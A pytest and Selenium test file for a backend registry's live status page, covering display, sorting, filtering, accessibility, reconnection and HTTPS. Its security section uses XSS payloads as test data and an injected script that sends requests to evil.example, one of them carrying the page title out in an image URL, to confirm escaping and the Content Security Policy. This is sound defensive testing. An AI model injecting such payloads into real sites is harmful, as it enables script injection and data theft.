# SPDX-License-Identifier: AGPL-3.0-only
"""The status page in a real browser: what a person sees, clicks and types, and what others try."""

from __future__ import annotations

import contextlib
import dataclasses
import re
import sqlite3
import time
from pathlib import Path
from typing import Any

import pytest
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from browser.browser import DESKTOP, PHONE, Page, Size
from browser.conftest import ALL, page_of
from plexus_registry.access import Policy
from plexus_registry.config.settings import Settings
from support.certificates import Authority
from support.conversation import Conversation, conversation
from support.daemon import daemon
from support.rust import make_rust_database
from support.serving import Served, serving
from support.timing import wait_until

HOSTILE = "<script>document.title='owned'"
MARKUP = """</td></script><script>document.title='owned'</script>\
<img src=x onerror="document.title='owned'">"""


def register(client: Conversation, name: str, **fields: Any) -> None:
    """Register a backend."""
    event = client.call("registry.register", {"name": name, "host": "h", "port": 1, **fields})
    assert event.content["type"] == "backend_registered", event.content


def words_of_age(client: Conversation, name: str) -> set[str]:
    """Return what the page may say now, or have said since, of when a backend was seen."""
    seen = client.call("registry.get", name).content["backend"]["last_seen"]
    ages = range(int(time.time() - seen) + 2)
    return {_words(age) for age in ages}


def _words(age: int) -> str:
    if age < 60:
        return "just now" if age < 10 else f"{age} s ago"
    return f"{age // 60} minute{'s' if age >= 120 else ''} ago"


# --- what is shown --------------------------------------------------------------------------------


def test_the_table_has_what_the_registry_knows(opened: Page, hub: Conversation) -> None:
    """Each backend with its address, source, time and description; texts of all kinds."""
    shown = dict(zip(opened.names, opened.column("code"), strict=True))
    assert shown["prod"] == "wss://plexus.example.com:4444"
    assert shown["staging"] == "ws://[2001:db8::17]:4444"
    seen = dict(zip(opened.names, opened.column("time"), strict=True))
    assert seen["dev"] in words_of_age(hub, "dev")
    assert seen["staging"] == "never"
    sources = dict(zip(opened.names, opened.column("td.source"), strict=True))
    assert re.split(r"\s+", sources["forge"]) == ["auto", "inactive"]
    assert sources["prod"] == "file"
    assert "What becomes production next week" in opened.column("td.about")
    assert "version 0.4.2" in opened.column("small")


def test_counts_version_and_health_are_shown(opened: Page, hub: Conversation) -> None:
    """What `registry.status` says, in words."""
    status = hub.call("registry.status").content
    assert opened.text("#about").startswith(f"registry-hub · version {status['version']} · up ")
    assert opened.text("#entries strong") == "7"
    assert opened.text("#entries span").split(" · ")[0] == "1\u00a0inactive"
    assert opened.text("#store strong") == "Healthy"
    assert opened.text("#reload strong") == "Done"
    assert opened.text("#shown") == "7 backends"
    assert not opened.is_shown("#fault")


def test_an_empty_registry_says_so(page: Page, settings: Settings) -> None:
    """And fills when the first backend comes."""
    with serving(settings) as served, conversation(served.url) as client:
        page.open(page_of(served))
        page.wait_for_text("#empty", "No backend is registered yet.")
        assert page.text("#reload strong") == "None yet"
        register(client, "first")
        page.wait_for_names("first")
        assert not page.is_shown("#empty")


def test_changes_are_shown_as_they_happen(opened: Page, hub: Conversation) -> None:
    """A backend that comes, is seen, changes, says good-bye and goes, without a reload."""
    register(hub, "a-new-one", description="It came later")
    opened.wait_for_names("a-new-one", *ALL)
    first = "#rows tr:first-child"
    assert opened.text(f"{first} time") == "never"
    hub.call("registry.ping", {"name": "a-new-one"})
    wait_until(
        lambda: opened.text(f"{first} time") in words_of_age(hub, "a-new-one"), "the sign of life"
    )
    hub.call("registry.update", {"name": "a-new-one", "port": 2})
    opened.wait_for_text(f"{first} code", "ws://h:2")
    hub.call("registry.deregister", {"name": "a-new-one"})
    opened.wait_for_text(f"{first} td.source", "inactive")
    hub.call("registry.delete", {"name": "a-new-one"})
    opened.wait_for_names(*ALL)


def test_times_that_no_calendar_reaches_are_shown(page: Page, settings: Settings) -> None:
    """A database of the Rust program may hold any number; the other rows and times are there."""
    make_rust_database(settings.database)
    with contextlib.closing(sqlite3.connect(settings.database)) as connection:
        connection.execute("UPDATE backends SET last_seen = 9000000000000 WHERE name = 'zeta'")
        connection.execute("UPDATE backends SET last_seen = -9000000000000 WHERE name = 'alpha'")
        connection.commit()
    with serving(settings) as served, conversation(served.url) as client:
        page.open(page_of(served))
        wait_until(lambda: {"zeta", "alpha"} <= set(page.names), "the rows")
        seen = dict(zip(page.names, page.column("time"), strict=True))
        assert seen["zeta"] == "in the future"
        assert seen["alpha"].endswith(" days ago")
        register(client, "later")
        wait_until(lambda: "later" in page.names, "what comes later")
        client.call("registry.ping", "zeta")
        wait_until(
            lambda: words_of_age(client, "zeta").intersection(page.column("time")), "the time now"
        )
        assert page.text("#pill") == "Live"


def test_a_reload_that_failed_is_shown_until_one_is_done(
    opened: Page, registry: Served, hub: Conversation
) -> None:
    """With its reason, and the backends are as before."""
    config = registry.service.settings.config
    good = config.read_text()
    config.write_text('[[backend]]\nname = "<b>bold</b>"\n')
    assert hub.call("registry.reload").content["type"] == "error"
    wait_until(lambda: opened.is_shown("#fault"), "the failed reload")
    assert opened.text("#fault h2").startswith("The last reload failed")
    assert f"{config}:1: " in opened.text("#fault p")
    assert opened.text("#reload strong") == "Failed"
    assert opened.names == ALL
    config.write_text(good)
    hub.call("registry.reload")
    wait_until(lambda: not opened.is_shown("#fault"), "the good reload")


def test_a_large_registry_is_shown_in_parts(page: Page, settings: Settings) -> None:
    """The newest first, how many there are, and more at a click; the filter says what it sees."""
    names = [f"n{number:04}" for number in range(1100)]
    with serving(settings) as served, conversation(served.url) as client:
        for name in names:
            client.send(
                {
                    "jsonrpc": "2.0",
                    "id": name,
                    "method": "registry.register",
                    "params": {"name": name, "host": "h", "port": 1},
                }
            )
        for _ in names:
            client.answer()
        page.open(page_of(served))
        page.wait_for_text("#shown", "500 shown, of the newest 500 of 1,100")
        assert page.names == names[-500:]
        page.one("#filter").send_keys(names[0])
        page.wait_for_text("#empty", "None of the newest 500 matches the filter; more can be")
        page.one("#filter").clear()
        page.one("#filter").send_keys(" ")
        page.one("#more button").click()
        page.wait_for_text("#shown", "1,000 shown, of the newest 1,000 of 1,100")
        page.one("#more button").click()
        page.wait_for_text("#shown", "1,100 backends")
        assert page.names == names
        assert not page.is_shown("#more")


# --- what a person does ---------------------------------------------------------------------------


def test_more_is_shown_though_a_look_was_under_way(page: Page, settings: Settings) -> None:
    """A click while the page waits for an answer counts, too; and pages are as small as need be."""
    small = dataclasses.replace(settings, max_answer_size=65536)
    with serving(small) as served, conversation(served.url) as client:
        for number in range(600):
            register(client, f"n{number:03}", metadata="x" * 300)
        page.open(page_of(served))
        page.wait_for_text("#shown", "500 shown, of the newest 500 of 600")
        page.run("poll(socket); document.querySelector('#more button').click(); return isBusy")
        page.wait_for_text("#shown", "600 backends")


def test_the_filter_narrows_by_every_word(opened: Page, hub: Conversation) -> None:
    """In names, addresses, sources and descriptions; also for what comes later."""
    field = opened.one("#filter")
    field.send_keys("FILE plexus")
    opened.wait_for_names("prod")
    assert opened.text("#shown") == "1 of 7 shown"
    field.send_keys(" nothing")
    opened.wait_for_names()
    assert opened.text("#empty") == "No backend matches the filter."
    field.clear()
    field.send_keys("greenhouse")
    opened.wait_for_names("sensor-hub-greenhouse")
    register(hub, "greenhouse-2")
    opened.wait_for_names("greenhouse-2", "sensor-hub-greenhouse")


def test_a_click_on_a_heading_sorts(opened: Page, hub: Conversation) -> None:
    """Up, and down at the second click; screen readers are told which."""

    def directions() -> list[str]:
        found: list[str] = opened.run(
            "return [...document.querySelectorAll('thead [aria-sort]')]"
            ".map((node) => node.ariaSort)"
        )
        return found

    assert directions() == ["ascending", "none", "none", "none"]
    opened.one("button[data-key=name]").click()
    assert opened.names == ALL[::-1]
    assert directions() == ["descending", "none", "none", "none"]
    opened.one("button[data-key=url]").click()
    assert opened.column("code") == sorted(opened.column("code"))
    assert directions() == ["none", "ascending", "none", "none"]
    opened.one("button[data-key=seen]").click()
    assert set(opened.names[:4]) == {"dev", "music", "notes", "prod"}
    for name, seen in list(zip(opened.names, opened.column("time"), strict=True))[:4]:
        assert seen in words_of_age(hub, name)
    assert opened.column("time")[-1] == "never"


def test_the_keyboard_is_enough(opened: Page) -> None:
    """Tab goes through filter, headings and rows in order, visibly, and Enter presses."""
    keys = ActionChains(opened.driver)
    keys.send_keys(Keys.TAB).perform()
    assert opened.run("return document.activeElement.id") == "filter"
    visited = []
    for _ in range(5):
        ActionChains(opened.driver).send_keys(Keys.TAB).perform()
        visited.append(opened.run("return document.activeElement.textContent"))
        style = "return getComputedStyle(document.activeElement)."
        assert opened.run(f"{style}outlineStyle") == "solid"
        assert opened.run(f"{style}outlineWidth") == "2px"
    assert visited == ["Name", "URL", "Source", "Last seen", "Copy"]
    ActionChains(opened.driver).key_down(Keys.SHIFT).send_keys(Keys.TAB * 4).key_up(
        Keys.SHIFT
    ).send_keys(Keys.ENTER).perform()
    assert opened.names == ALL[::-1]


def test_focus_stays_where_it_is_when_the_table_changes(opened: Page, hub: Conversation) -> None:
    """A row that comes before does not take it away."""
    opened.run("document.querySelector('#rows tr:nth-child(3) .copy').focus()")
    register(hub, "a-new-one")
    opened.wait_for_names("a-new-one", *ALL)
    label = opened.run("return document.activeElement.ariaLabel")
    assert label == f"Copy the URL of {ALL[2]}"


@pytest.mark.parametrize("focused", ["one that stays", "the one that moves"])
def test_row_that_finds_another_place_is_the_only_one_that_moves(
    opened: Page, hub: Conversation, focused: str
) -> None:
    """It alone is taken out and put in again; whatever had the focus has it still."""
    for _ in range(2):  # the second time the other way round: seen the longest time ago first
        opened.one("button[data-key=seen]").click()
    first, second = opened.names[:2]
    label = f"Copy the URL of {second if focused == 'one that stays' else first}"
    opened.run(
        """
        document.querySelector(`[aria-label="${arguments[0]}"]`).focus();
        window.moved = [];
        new MutationObserver((changes) => {
          for (const { removedNodes } of changes)
            for (const node of removedNodes) moved.push(node.querySelector("bdi").textContent);
        }).observe(document.querySelector("#rows"), { childList: true });
        """,
        label,
    )
    hub.call("registry.ping", {"name": first})
    wait_until(lambda: opened.names[0] == second, "the other order")
    assert opened.run("return moved") == [first]
    assert opened.run("return document.activeElement.ariaLabel") == label


def test_rows_are_in_order_whatever_moved(opened: Page, hub: Conversation) -> None:
    """Several at once, some of which are new, and some of which are gone."""
    opened.one("button[data-key=url]").click()
    for port, name in enumerate(("notes", "dev", "staging", "prod"), 1):
        hub.call("registry.update", {"name": name, "host": "m", "port": port})
    hub.call("registry.delete", {"name": "music"})
    register(hub, "a-new-one")
    register(hub, "z-new-one", host="z")
    wait_until(lambda: len(opened.names) == 8 and "z-new-one" in opened.names, "the changes")
    wait_until(lambda: opened.column("code") == sorted(opened.column("code")), "the order")


def test_a_click_copies_an_address(opened: Page) -> None:
    """To the clipboard, and the button says so for a while."""
    opened.cdp(
        "Browser.grantPermissions",
        permissions=["clipboardReadWrite", "clipboardSanitizedWrite"],
    )
    opened.one("#rows tr:first-child .copy").click()
    opened.wait_for_text("#rows tr:first-child .copy", "Copied")
    copied = opened.driver.execute_async_script(
        "navigator.clipboard.readText().then(arguments[0], arguments[0])"
    )
    assert copied == opened.column("code")[0]


def test_a_screen_reader_finds_a_table_with_names(opened: Page) -> None:
    """A caption, headings of columns and rows, labels, and regions that tell of changes."""
    assert opened.run("return document.querySelector('table').caption.textContent")
    assert opened.one("#filter").accessible_name == "Filter"
    assert opened.one("#rows tr:first-child .copy").accessible_name == "Copy the URL of dev"
    for size in (DESKTOP, PHONE):
        opened.look_like(size)
        roles = [
            opened.one(selector).aria_role
            for selector in ("table", "thead th", "#rows tr", "#rows th", "#rows td")
        ]
        assert roles == ["table", "columnheader", "row", "rowheader", "cell"]
    for region in ("#pill", "#shown"):
        assert opened.one(region).get_attribute("aria-live") == "polite"
    assert opened.one("#fault").get_attribute("role") == "alert"
    assert opened.one("html").get_attribute("lang") == "en"


@pytest.mark.parametrize("width", [320, 390, 600, 740, 800, 1280, 2560])
def test_nothing_has_to_be_scrolled_sideways(opened: Page, hub: Conversation, width: int) -> None:
    """On no screen, whatever the names."""
    host = ".".join(["y" * 60] * 3)
    register(hub, "x" * 128, host=host, description="z" * 500, namespace="n" * 100)
    wait_until(lambda: "x" * 128 in opened.names, "the long name")
    opened.look_like((width, 844))
    widths = opened.run("return [document.documentElement.scrollWidth, innerWidth]")
    assert widths[0] <= widths[1]


def test_light_and_dark_are_legible(opened: Page) -> None:
    """Text has a contrast of at least 4.5 to what is behind it (WCAG 2.2, 1.4.3)."""
    for scheme in ("light", "dark"):
        opened.look_like(DESKTOP, scheme=scheme)
        for selector in ("h1", "#about", "#pill", "dt", "thead button", "code", ".tag", ".copy"):
            assert opened.run(CONTRAST, selector) >= 4.5, (scheme, selector)


CONTRAST = """
const light = (color) => {
  const [r, g, b] = color.map((it) => it / 255)
    .map((it) => (it <= 0.04045 ? it / 12.92 : ((it + 0.055) / 1.055) ** 2.4));
  return 0.2126 * r + 0.7152 * g + 0.0722 * b;
};
const parts = (text) => text.match(/[0-9.]+/g).map(Number);
const node = document.querySelector(arguments[0]);
let behind = node;
while (parts(getComputedStyle(behind).backgroundColor)[3] === 0) behind = behind.parentNode;
const pair = [getComputedStyle(node).color, getComputedStyle(behind).backgroundColor];
const [low, high] = pair.map(parts).map((it) => light(it.slice(0, 3))).sort((a, b) => a - b);
return (high + 0.05) / (low + 0.05);
"""


# --- what others try ------------------------------------------------------------------------------


def test_texts_of_backends_never_become_markup(opened: Page, hub: Conversation) -> None:
    """A name, a description, a version that are markup are shown as they are, and run nothing."""
    register(hub, HOSTILE, description=MARKUP, namespace=MARKUP[:100], version=MARKUP[:60])
    wait_until(lambda: HOSTILE in opened.names, "the hostile name")
    assert MARKUP in opened.column("td.about")
    assert opened.run("return document.querySelectorAll('img, main script').length") == 0
    assert opened.driver.title == "Plexus registry"


def test_the_policy_stops_what_gets_past(opened: Page) -> None:
    """Markup that was put in all the same would neither run nor load nor send anything."""
    refused = opened.driver.execute_async_script(
        """
        const [done] = arguments, blocked = [];
        document.addEventListener("securitypolicyviolation", (event) => {
          blocked.push(event.effectiveDirective);
        });
        const add = (tag, fields) => document.body.append(
          Object.assign(document.createElement(tag), fields));
        add("style", { textContent: "body { color: red }" });
        add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
        add("iframe", { src: "https://evil.example/" });
        const image = document.createElement("img");
        image.src = "https://evil.example/?" + document.title;
        fetch("https://evil.example/").catch(() => {});
        try { document.body.innerHTML += "<b>x</b>"; blocked.push("none"); } catch { }
        try { add("script", { textContent: "document.title = 'owned'" }); } catch { }
        setTimeout(() => done([...new Set(blocked)].sort()), 300);
        """
    )
    assert "none" not in refused
    assert {
        "connect-src",
        "frame-src",
        "img-src",
        "require-trusted-types-for",
        "style-src-elem",
    } <= set(refused)
    assert opened.driver.title == "Plexus registry"
    assert all("Content Security Policy" in line or "Trusted" in line for line in opened.console())


def test_another_page_may_not_frame_it(page: Page, registry: Served) -> None:
    """Nobody's clicks are led there."""
    before = registry.server.counts.accepted
    page.run(
        "document.body.append(Object.assign(document.createElement('iframe'),"
        " { src: arguments[0] }))",
        page_of(registry),
    )
    page.driver.switch_to.frame(0)
    wait_until(lambda: page.run("return document.URL").startswith("chrome-error:"), "the refusal")
    assert registry.server.counts.accepted > before


# --- connections ----------------------------------------------------------------------------------


def test_the_page_connects_again_after_a_restart(page: Page, tmp_path: Path) -> None:
    """It says that the connection is lost, tries again, and shows what there is then."""
    options = ["--auto-register", "none", "--backend"]
    with daemon(tmp_path, [*options, "one=ws://h:1"]) as running:
        url = running.url
        page.open(f"{url.replace('ws://', 'http://')}/")
        page.wait_for_names("one")
        assert running.stop() == 0
        page.wait_for_state("Connection lost, trying again in ")
        assert page.names == ["one"]
        assert page.is_shown("#retry")
    port = url.rpartition(":")[2]
    with daemon(tmp_path, [*options, "two=ws://h:1", "--port", port]) as running:
        assert running.url == url
        page.one("#retry").click()
        page.wait_for_state("Live")
        page.wait_for_names("two")
        assert not page.is_shown("#retry")
    lost = page.console()
    assert all("WebSocket connection to" in line for line in lost), lost


def test_the_page_connects_again_by_itself(page: Page, tmp_path: Path) -> None:
    """Nobody has to click."""
    with daemon(tmp_path, ["--auto-register", "none"]) as running:
        url = running.url
        page.open(f"{url.replace('ws://', 'http://')}/")
        assert running.stop() == 0
        page.wait_for_state("Connection lost")
    with daemon(tmp_path, ["--auto-register", "none", "--port", url.rpartition(":")[2]]) as running:
        assert running.url == url
        wait_until(lambda: page.text("#pill") == "Live", "the connection", 60)
    page.console()


def test_the_page_works_over_https(
    page: Page, settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """By a name of the registry's, with a WebSocket over TLS."""
    certificate = Authority(tmp_path_factory.mktemp("authority")).issue()
    named = dataclasses.replace(certificate.secure(settings), allowed_hosts=("reg.example",))
    with serving(named) as served:
        page.open(f"https://reg.example:{served.port}/")
        page.wait_for_text("#empty", "No backend")


def test_a_reader_on_the_network(page: Page, registry: Served) -> None:
    """The page works by another name over plain HTTP, where browsers give no clipboard."""
    served = registry
    served.in_loop(lambda: allow(served, "reg.example"))
    page.open(f"http://reg.example:{served.port}/")
    page.wait_for_names(*ALL)
    assert page.run("return navigator.clipboard") is None
    page.one("#rows tr:first-child .copy").click()
    page.wait_for_text("#rows tr:first-child .copy", "Copied")
    page.one("#filter").send_keys(Keys.CONTROL, "v")
    assert page.one("#filter").get_attribute("value") == page.column("code")[0]


def allow(served: Served, host: str) -> None:
    """Let clients call the registry so."""
    terms = served.server.terms
    served.server.terms = terms._replace(allowed_hosts={*terms.allowed_hosts, host})


def test_who_may_not_write_is_not_told_paths(page: Page, settings: Settings) -> None:
    """That a reload failed is shown, and where to read why."""
    strict = dataclasses.replace(settings, write_access=Policy.TOKEN)
    with serving(strict) as served:
        settings.config.write_text("[[backend]]\n")
        served.run(served.service.reload())
        page.open(page_of(served))
        page.wait_for_text("#fault p", "the log of the registry says why")
        assert str(settings.config) not in page.text("body")


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_screenshots(
    opened: Page, request: pytest.FixtureRequest, tmp_path: Path, size: Size, scheme: str
) -> None:
    """The page at two sizes; `--screenshots docs` keeps the pictures."""
    opened.look_like(size, scheme=scheme)
    folder = Path(request.config.getoption("--screenshots") or tmp_path)
    path = folder / f"status-page-{'phone' if size == PHONE else 'desktop'}-{scheme}.png"
    opened.screenshot(path)
    assert 5_000 < path.stat().st_size < 150_000
